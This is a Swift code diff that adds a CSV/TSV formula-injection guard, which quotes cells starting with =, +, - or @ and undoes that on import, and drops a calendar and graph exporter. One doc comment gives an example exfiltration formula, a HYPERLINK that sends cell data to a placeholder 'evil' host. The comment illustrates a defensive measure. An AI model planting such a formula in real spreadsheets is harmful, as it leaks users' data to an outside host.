@@ -92,13 +92,13 @@ public enum CSVImport {
             var values: [String: String] = [:]
             for (i, f) in fields.enumerated() {
                 guard let f, i < row.count else { continue }
-                let v = row[i].trimmed
+                let v = SpreadsheetCell.restored(row[i].trimmed)
                 if v.isEmpty { continue }
                 if values[f] == nil { values[f] = v } else if f == "tags" || f == "notes" { values[f]! += ";" + v }
             }
             var extras: [String] = []
             for (i, f) in fields.enumerated() where f == nil && i < row.count && !row[i].isEmpty {
-                extras.append("\(header[i]): \(row[i])")
+                extras.append("\(header[i]): \(SpreadsheetCell.restored(row[i]))")
             }
             do {
                 var c = try contact(values, origin: origin, flavor: flavor)
@@ -179,56 +179,35 @@ public enum CSVImport {
     }
 }
 
-/// iCalendar (RFC 5545) with the agenda as VTODO items, and Graphviz DOT of who knows whom.
-public enum CalendarWriter {
-    public struct Item {
-        public var uid: String
-        public var summary: String
-        public var description: String
-        public var due: Day
-        public var priority: Int
-        public var category: String
-        public init(uid: String, summary: String, description: String, due: Day, priority: Int, category: String) {
-            self.uid = uid
-            self.summary = summary
-            self.description = description
-            self.due = due
-            self.priority = priority
-            self.category = category
-        }
+/// The spreadsheet-formula guard of CSV (and TSV) cells, and its exact inverse.
+///
+/// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or CR before one)
+/// as a formula: `=HYPERLINK("http://evil/?"&A1)` would leak the row. Such a text cell is
+/// written with a `'` before it, which spreadsheets show as text. So that import can undo
+/// exactly that, a cell already starting with `'`s before such a character gets one more:
+///
+///     =1+1 → '=1+1        '=1+1 → ''=1+1        'Tis → 'Tis (unchanged)
+public enum SpreadsheetCell {
+    static func isTrigger(_ b: UInt8) -> Bool {
+        b == UInt8(ascii: "=") || b == UInt8(ascii: "+") || b == UInt8(ascii: "-") || b == UInt8(ascii: "@") || b == 0x09 || b == 0x0D
     }
 
-    public static func ics(_ items: [Item], stamp: Day) -> String {
-        func compact(_ d: Day) -> String { d.description.replacingOccurrences(of: "-", with: "") }
-        var lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Tend//Agenda//EN", "CALSCALE:GREGORIAN"]
-        for i in items {
-            lines += [
-                "BEGIN:VTODO", "UID:\(escape(i.uid))", "DTSTAMP:\(compact(stamp))T000000Z", "DUE;VALUE=DATE:\(compact(i.due))",
-                "SUMMARY:\(escape(i.summary))", "DESCRIPTION:\(escape(i.description))", "PRIORITY:\(i.priority)",
-                "CATEGORIES:\(escape(i.category))", "STATUS:NEEDS-ACTION", "END:VTODO",
-            ]
+    /// True when the text is a run of `'`s (`quotes` or more) and then a trigger character.
+    static func isGuarded(_ s: String, quotes: Int) -> Bool {
+        var n = 0
+        for b in s.utf8 {
+            if b == UInt8(ascii: "'") {
+                n += 1
+            } else {
+                return n >= quotes && isTrigger(b)
+            }
         }
-        lines.append("END:VCALENDAR")
-        return lines.map(VCard.fold).joined(separator: "\r\n") + "\r\n"
+        return false
     }
 
-    /// RFC 5545 text escaping is RFC 6350's.
-    static func escape(_ s: String) -> String { VCard.escape(s) }
+    /// The cell as written: a formula-like text gets a leading `'`.
+    public static func neutralised(_ s: String) -> String { isGuarded(s, quotes: 0) ? "'" + s : s }
 
-    /// The who-knows-whom graph, each person coloured by stage.
-    public static func dot(_ people: [Contact], edges: [(Int64, Int64)]) -> String {
-        let colors: [Stage: String] = [.contact: "gray80", .visibility: "lightblue", .credibility: "gold", .profitability: "palegreen"]
-        let ids = Set(people.map(\.id))
-        var lines = ["graph tend {", "  node [style=filled, shape=box, fontname=\"Helvetica\"];"]
-        for p in people {
-            let label = p.name.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
-            lines.append("  \"\(p.handle)\" [label=\"\(label)\", fillcolor=\(colors[p.stage]!)];")
-        }
-        let handle = Dictionary(uniqueKeysWithValues: people.map { ($0.id, $0.handle) })
-        for (a, b) in edges where ids.contains(a) && ids.contains(b) {
-            lines.append("  \"\(handle[a]!)\" -- \"\(handle[b]!)\";")
-        }
-        lines.append("}")
-        return lines.joined(separator: "\n") + "\n"
-    }
+    /// The cell as read back: the `'` that `neutralised` added is taken off.
+    public static func restored(_ s: String) -> String { isGuarded(s, quotes: 1) ? String(s.dropFirst()) : s }
 }
